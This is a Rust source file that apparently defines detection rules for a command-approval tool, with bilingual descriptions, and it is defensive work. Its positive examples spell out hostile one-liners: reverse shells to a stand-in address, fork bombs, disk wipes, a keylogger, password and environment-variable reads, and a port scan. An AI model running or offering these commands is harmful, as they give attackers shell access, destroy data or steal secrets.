//! The rules about code: what only code does, or what shows only in code as a whole.

use signoff_model::{EffectKind, Reversible, Risk};

use crate::{
    path_effects::rules,
    rule::{Priority, Rule},
};

rules! {
    REVERSE_SHELL = Rule::new("code-reverse-shell", EffectKind::Privilege, Risk::Critical, "lets {} control a shell on this machine", "让 {} 控制本机的 shell")
        .absurd().priority(Priority::P0)
        .examples(
            &["python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.7\",9001));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'", "php -r '$s=fsockopen(\"203.0.113.7\",9001);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"],
            &["python3 -c 'import socket; print(socket.gethostname())'", "python3 -c 'import pty; pty.spawn([\"ls\"])'"],
        );
    CODE_FORK_BOMB = Rule::new("code-fork-bomb", EffectKind::System, Risk::Critical, "makes new processes without end: {}", "无限创建新进程：{}")
        .absurd().priority(Priority::P0)
        .examples(&["python3 -c 'import os\nwhile True: os.fork()'", "perl -e 'fork while 1'"], &["perl -e 'fork; print 1'"]);
    CODE_EXHAUST = Rule::new("code-exhaust", EffectKind::System, Risk::High, "takes memory or disk space without end: {}", "代码无止境地占用内存或磁盘空间：{}")
        .examples(
            &["python3 -c 'a = []\nwhile True: a.append(bytearray(10**8))'", "node -e 'const a=[];while(true)a.push(Buffer.alloc(100000000))'"],
            &["python3 -c 'a = []\nwhile True:\n  a.append(bytearray(10**8))\n  if len(a) > 3: break'", "python3 -c 'for i in range(3): print(i * 10**8)'"],
        );
    CODE_DATABASE = Rule::new("code-database", EffectKind::DatabaseWrite, Risk::High, "changes or deletes what a database holds: {}", "更改或删除数据库内容：{}")
        .reversible(Reversible::No)
        .examples(
            &["python3 -c 'from app import db; db.drop_all()'", "python3 -c 'from app.models import User; User.objects.all().delete()'"],
            &["python3 -c 'from app.models import User; print(User.objects.count())'"],
        );
    DESTRUCTIVE_FUNCTION = Rule::new("destructive-function", EffectKind::Execute, Risk::High, "calls {}, which by its name destroys, resets or deploys something", "调用 {}，其名称表明会销毁、重置或部署某些内容")
        .examples(&["python3 -c 'from app import reset_database; reset_database()'", "node -e \"require('./db').wipeDatabase()\""], &["python3 -c 'import pandas as pd; print(pd.DataFrame().drop_duplicates())'"]);
    SHOW_ENVIRONMENT = Rule::new("code-environment", EffectKind::SecretRead, Risk::Medium, "shows the whole environment, which may hold secrets: {}", "显示可能含有机密的全部环境变量：{}")
        .examples(&["python3 -c 'import os; print(os.environ)'", "node -p process.env"], &["python3 -c 'import os; print(os.environ[\"HOME\"])'", "node -p process.env.PATH"]);
    SHOW_PASSWORD = Rule::new("code-password", EffectKind::SecretRead, Risk::High, "reads a stored password: {}", "读取已存储的密码：{}")
        .examples(&["python3 -c 'import keyring; print(keyring.get_password(\"a\",\"b\"))'"], &["python3 -c 'import keyring; print(keyring.__version__)'"]);
    CODE_MAIL = Rule::new("code-mail", EffectKind::Publish, Risk::High, "sends mail: {}", "发送邮件：{}")
        .examples(&["python3 -c 'import smtplib; smtplib.SMTP(\"localhost\").sendmail(\"a\",\"b\",\"c\")'"], &["python3 -c 'import email; print(email)'"]);
    CODE_REMOTE = Rule::new("code-remote-change", EffectKind::NetworkWrite, Risk::High, "changes something in another service: {}", "更改其他服务中的内容：{}")
        .examples(&["python3 -c 'import boto3; boto3.client(\"s3\").delete_bucket(Bucket=\"b\")'"], &["python3 -c 'import boto3; print(boto3.client(\"s3\").list_buckets())'"]);
    CODE_LOST = Rule::new("code-unread", EffectKind::Opaque, Risk::Medium, "holds code that could not be read to its end: {}", "包含无法完整读取的代码：{}")
        .examples(&["python3 -c 'import os; os.system(\"\"\"rm'"], &["python3 -c 'print(1)'"]);
    CODE_SYSTEM = Rule::new("code-system-change", EffectKind::System, Risk::High, "changes the machine: {}", "更改本机设置或状态：{}")
        .examples(&["pwsh -Command 'Restart-Computer -Force'", "powershell -Command Stop-Service w32time"], &["pwsh -Command Get-Service"]);
    CODE_WIPE = Rule::new("code-wipe-disk", EffectKind::System, Risk::Critical, "wipes a disk or a volume: {}", "清空磁盘或卷：{}")
        .absurd().reversible(Reversible::No)
        .examples(&["powershell -Command 'Format-Volume -DriveLetter D'", "pwsh -c 'Clear-Disk -Number 0 -RemoveData'"], &["pwsh -c Get-Volume"]);
    CODE_PROCESS = Rule::new("code-stop-process", EffectKind::Process, Risk::Medium, "stops other programs: {}", "终止其他程序：{}")
        .examples(&["pwsh -c 'Stop-Process -Name node'"], &["pwsh -c Get-Process"]);
    CODE_SCAN = Rule::new("code-scan", EffectKind::NetworkRead, Risk::Medium, "looks for open ports of {}", "扫描 {} 的开放端口")
        .examples(
            &["python3 -c 'import socket\nfor p in range(1, 1024):\n  s = socket.socket()\n  if s.connect_ex((\"192.0.2.7\", p)) == 0: print(p)'"],
            &["python3 -c 'import socket\nfor p in range(3000, 3010):\n  s = socket.socket()\n  if s.connect_ex((\"127.0.0.1\", p)) == 0: print(p)'"],
        );
    CODE_KEYS = Rule::new("code-records-keys", EffectKind::SecretRead, Risk::High, "records what is typed on this machine: {}", "记录本机上的键盘输入：{}")
        .examples(&["python3 -c 'from pynput import keyboard; keyboard.Listener(on_press=print).start()'", "python3 -c 'import keyboard; print(keyboard.record(until=\"enter\"))'"], &["python3 -c 'import keyboard; print(keyboard.__version__)'"]);
    KEYSTROKES = Rule::new("scripted-keystrokes", EffectKind::Opaque, Risk::High, "types or clicks in other programs: {}", "在其他程序中输入或点击：{}")
        .examples(&["osascript -e 'tell application \"System Events\" to keystroke \"q\" using command down'"], &["osascript -e 'display notification \"done\"'"]);
    APPLICATION_CHANGE = Rule::new("scripted-application", EffectKind::Delete, Risk::High, "makes another application delete, send or shut down something: {}", "让其他应用程序删除、发送或关闭内容：{}")
        .examples(&["osascript -e 'tell application \"Finder\" to empty trash'"], &["osascript -e 'tell application \"Finder\" to activate'"]);
}
